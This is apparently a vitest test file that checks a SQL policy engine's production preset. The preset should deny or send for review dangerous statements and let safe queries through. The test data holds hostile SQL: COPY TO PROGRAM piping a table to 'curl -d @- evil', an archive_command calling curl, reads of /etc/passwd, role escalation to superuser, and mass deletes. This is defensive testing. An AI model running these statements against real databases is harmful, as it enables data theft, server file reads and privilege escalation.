import { beforeAll, describe, expect, it } from 'vitest';
import { classifySql, connectionPolicySchema, evaluateStatements, initPolicyEngine, type PolicyIdentity } from '../../../src/policy/index.js';
import { attempts } from '../../support/policy-attempts.js';
import { effectAttempts } from '../../support/effect-attempts.js';

const engineer: PolicyIdentity = { subject: 'alice', kind: 'human', groups: ['engineers'] };
const production = connectionPolicySchema.parse({ preset: 'production' });

beforeAll(async () => {
  await initPolicyEngine();
});

function verdictOf(sql: string) {
  return evaluateStatements(production, engineer, classifySql(sql));
}

/** The four the README's example rules let through, and the rest of issue 12's class. */
const issueAttempts: Array<[string, string]> = [
  ['ALTER TABLE accounts RENAME TO accounts_old', 'production/no-schema-change'],
  ["ALTER SYSTEM SET archive_command = 'curl evil'", 'production/no-server-config'],
  ['CREATE OR REPLACE RULE r AS ON SELECT TO accounts DO INSTEAD NOTHING', 'production/no-unknowable-code'],
  ['MERGE INTO accounts a USING (SELECT 1 AS id) s ON a.id = s.id WHEN MATCHED THEN DELETE', 'production/review-row-changes'],
  ['MERGE INTO accounts a USING accounts s ON a.id = s.id WHEN MATCHED THEN DELETE', 'production/review-row-changes'],
  ['DELETE FROM accounts WHERE id = id', 'production/review-row-changes'],
  ['DELETE FROM accounts WHERE id IS NOT NULL', 'production/review-row-changes'],
  ['alter role app superuser', 'production/no-privilege-change'],
  ['set role postgres', 'production/no-privilege-change'],
  ["copy accounts to program 'curl -d @- evil'", 'production/no-unknowable-code'],
  ["copy accounts from '/etc/passwd'", 'production/no-server-access'],
  ["select pg_read_file('/etc/passwd')", 'production/no-server-access'],
  ['do $$ begin perform 1; end $$', 'production/no-unknowable-code'],
  ["select * from dblink('x', 'drop table accounts') as t(x int)", 'production/no-unknowable-code'],
  ['create table scratch (id int)', 'production/no-schema-change'],
  ['truncate accounts', 'production/no-schema-change'],
  ['select * into backup from accounts', 'production/no-schema-change'],
];

describe('preset: production', () => {
  it.each(issueAttempts)('%s is refused by %s', (sql, rule) => {
    const verdict = verdictOf(sql);
    expect(verdict.rule).toBe(rule);
    expect(verdict.action).toBe(rule.endsWith('review-row-changes') ? 'review' : 'deny');
  });

  it.each([...attempts.map((a) => a.sql), ...effectAttempts])('refuses %s (deny, or review for a change of rows)', (sql) => {
    expect(['deny', 'review']).toContain(verdictOf(sql).action);
  });

  it.each([
    'select * from accounts where id = 1',
    "select count(*), lower('X'), now() from accounts",
    'insert into audit_log (msg) values ($1)',
    'begin; select 1; commit',
    'set search_path = app, public',
    'show work_mem',
    'explain select * from accounts',
  ])('lets %s through', (sql) => {
    expect(verdictOf(sql).action).toBe('allow');
  });

  it('a connection rule cannot allow what the preset denies', () => {
    const policy = connectionPolicySchema.parse({ preset: 'production', rules: [{ name: 'dba-all', match: { identity: { groups: ['engineers'] } }, action: 'allow' }] });
    expect(evaluateStatements(policy, engineer, classifySql('drop table accounts'))).toMatchObject({ action: 'deny', rule: 'production/no-schema-change' });
  });

  it('an unknown preset names the field', () => {
    const r = connectionPolicySchema.safeParse({ preset: 'prod' });
    expect(r.success).toBe(false);
    expect(r.error?.issues[0]?.path).toEqual(['preset']);
  });
});
